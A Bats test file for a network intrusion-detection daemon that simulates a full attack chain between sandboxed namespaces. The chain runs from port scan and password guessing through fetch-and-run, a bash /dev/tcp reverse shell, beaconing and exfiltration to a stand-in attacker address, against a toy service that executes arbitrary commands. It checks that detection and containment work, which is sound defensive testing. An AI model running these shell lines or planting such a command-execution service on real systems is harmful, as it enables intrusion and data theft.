#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# One attack, from the scan to the theft, between two namespaces: it is one incident with every stage
# whose detector there is. Then again with the playbook enabled: contained within 2 seconds of the
# first alert about a shell. Only the victim's namespace is watched.

net=pkat
load lib

# Far away: what goes to an address of the own house is not taken out of it.
attacker=198.51.100.2 victim=$client_ip

config() { # config ENABLED PLAYBOOKS
	write_config "$run/picket.yaml"
	sed -i '/^netns:/d' "$run/picket.yaml"
	{
		echo "netns: {containers: false}"
		echo "detect: {learning_time: 1s, off: [$(all_but port_scan password_guess fetch_run reverse_shell beacon exfiltration)]}"
		echo "respond: {enabled: [$1], playbooks: $2}"
	} >>"$run/picket.yaml"
}

is_covered() {
	api /v1/status | jq -e '[.coverage[] | select(.iface == "pkatc0" and .egress != "none")] | length == 1'
}

# The victim: a login service that greets as SSH does; who knows the word gets a shell's commands run.
write_programs() {
	cat >"$run/login.py" <<-'PY'
		import socket, subprocess, sys, threading
		def serve(c):
		    c.sendall(b'SSH-2.0-OpenSSH_9.2\r\n')
		    f = c.makefile('rb')
		    try:
		        for line in f:
		            if line.startswith(b'RUN '):
		                subprocess.Popen(['/bin/bash', '-c', line[4:].decode()], stdin=subprocess.DEVNULL,
		                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
		            elif not line.startswith(b'SSH-'):
		                break
		    except OSError:
		        pass
		    c.close()
		l = socket.create_server((sys.argv[1], 22))
		while True:
		    threading.Thread(target=serve, args=(l.accept()[0],), daemon=True).start()
	PY
	cat >"$run/attack.py" <<-'PY'
		import http.server, socket, sys, threading, time
		me, victim, stages = sys.argv[1], sys.argv[2], sys.argv[3].split(',')
		def log(s): print('%.3f %s' % (time.time(), s), flush=True)
		class Web(http.server.BaseHTTPRequestHandler):
		    def do_GET(self):
		        body = open('/bin/true', 'rb').read() if self.path == '/tool' else b'ok'
		        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers()
		        self.wfile.write(body)
		    def log_message(self, *a): pass
		def shells(l):
		    while True:
		        c = l.accept()[0]; log('shell')
		        def talk(c=c):
		            try:
		                while True:
		                    c.sendall(b'id; echo still here\n'); c.recv(4096); time.sleep(0.1)
		            except OSError: pass
		        threading.Thread(target=talk, daemon=True).start()
		def sink(l):
		    while True:
		        c = l.accept()[0]
		        while c.recv(1 << 20): pass
		threading.Thread(target=http.server.ThreadingHTTPServer((me, 8080), Web).serve_forever, daemon=True).start()
		threading.Thread(target=shells, args=(socket.create_server((me, 4444)),), daemon=True).start()
		threading.Thread(target=sink, args=(socket.create_server((me, 9000)),), daemon=True).start()
		def login(run=None):
		    c = socket.create_connection((victim, 22), source_address=(me, 0)); c.recv(64); c.sendall(b'SSH-2.0-x\r\n')
		    c.sendall(b'RUN ' + run.encode() + b'\n' if run else b'wrong\n')
		    return c
		if 'scan' in stages:
		    log('scan')
		    for port in range(1, 400):
		        s = socket.socket(); s.bind((me, 0)); s.settimeout(0.05); s.connect_ex((victim, port)); s.close(); time.sleep(0.005)
		if 'guess' in stages:
		    log('guess')
		    for i in range(60):
		        c = login(); c.recv(64); c.close(); time.sleep(0.05)
		log('login')
		inside = login('true')
		def do(what, wait):
		    log(what.split()[0]); inside.sendall(b'RUN ' + what.encode() + b'\n'); time.sleep(wait)
		if 'fetch' in stages:
		    do('curl -s http://%s:8080/tool -o /tmp/pkat-tool; chmod +x /tmp/pkat-tool; /tmp/pkat-tool; sleep 1' % me, 2)
		do('bash -i >& /dev/tcp/%s/4444 0>&1' % me, 3)
		if 'beacon' in stages:
		    do('for i in $(seq 24); do curl -s http://%s:8080/b; sleep 1.5; done' % me, 42)
		if 'exfiltrate' in stages:
		    do('head -c 300000000 /dev/zero > /dev/tcp/%s/9000' % me, 8)
		log('over')
		time.sleep(float(sys.argv[4]))
	PY
}

setup() {
	export run=$BATS_TEST_TMPDIR
	make_net
	ip -n "${net}s" addr add $attacker/24 dev "${net}s0"
	ip -n "${net}c" route add 198.51.100.0/24 via $server_ip
	write_programs
}

teardown() {
	kill_children
	in_client "$build/picketd" --config "$run/picket.yaml" --detach >/dev/null 2>&1 || true
	clean_net
	rm -rf /tmp/pkat-tool /tmp/pkat-playbooks
}

begin() { # begin ENABLED PLAYBOOKS
	config "$1" "$2"
	setsid -f nsenter --net=/run/netns/pkatc python3 "$run/login.py" $victim 3>&- >/dev/null 2>&1
	sleep 1
	start_daemon
}

attack() { in_server timeout 150 python3 "$run/attack.py" $attacker $victim "$1" "$2" 3>&-; }
incidents() { api '/v1/incidents?state=all' | jq -c '.incidents[] | select(.unmapped.picket.state != "duplicate")'; }
has() { api '/v1/alerts?limit=10000' | jq -e --arg r "$1" '.alerts | any(.[]; .finding_info.analytic.uid == $r)'; }
exists() { api /v1/detectors | jq -e --arg r "$1" '.detectors | any(.[]; .name == $r and .on)'; }

@test "one attack is one incident, with every stage that there is a detector for" {
	begin "" "$PWD/user/share/playbooks"
	attack scan,guess,fetch,beacon,exfiltrate 3
	sleep 3
	incidents | jq -r '"\(.unmapped.picket.number) \(.unmapped.picket.state) \(.severity): \(.desc)"'
	id=$(incidents | jq -s 'map({n: .unmapped.picket.number, a: (.finding_info_list | length)}) | max_by(.a).n')
	PICKET_SOCKET=$run/picket.sock picket incident show "$id"
	missing=
	for rule in port_scan password_guess fetch_run reverse_shell beacon exfiltration; do
		exists $rule >/dev/null || { echo "# no detector: $rule" >&3; continue; }
		api "/v1/incidents/$id" | jq -e --arg r $rule '.finding_info_list | any(.[]; .analytic.uid == $r)' >/dev/null ||
			missing="$missing $rule"
	done
	echo "missing:$missing"
	[ -z "$missing" ]
	# all that names the attacker or the victim's service is in it
	[ "$(incidents | jq -s --arg a $attacker '[.[] | select(any(.unmapped.picket.remotes[]; .ip == $a))] | length')" = 1 ]
	api "/v1/incidents/$id" | jq -e '.severity_id >= 4'
}

@test "with its playbook enabled it is contained within 2 s of the first shell alert" {
	# where the agent's user, who is nobody, may read
	mkdir -p /tmp/pkat-playbooks
	chmod 755 /tmp/pkat-playbooks
	cp user/share/playbooks/c2.json /tmp/pkat-playbooks
	begin "block, suspend, snapshot" /tmp/pkat-playbooks
	exists reverse_shell || skip "there is no detector of shells"
	attack none 8
	wait_for 10 has reverse_shell
	contained() { incidents | jq -se 'any(.[]; .unmapped.picket.times.contained)'; }
	wait_for 10 contained || {
		incidents | jq -r '.unmapped.picket.acts[] | "\(.result) \(.what) | \(.why // "")"'
		false
	}
	ms=$(incidents | jq -s '[.[] | select(.unmapped.picket.times.contained)][0] |
		.unmapped.picket.times.contained -
		([.finding_info_list[] | select(.analytic.uid == "reverse_shell").last_seen_time] | min)')
	echo "# contained $ms ms after the first shell alert" >&3
	[ "$ms" -le 2000 ]
	incidents | jq -r '.unmapped.picket.acts[] | "\(.result) \(.what) | \(.why // "")"'
	api "/v1/check?ip=$attacker" | tee "$run/check.json" | jq -c .
	jq -e '.verdict == "drop"' "$run/check.json"
}
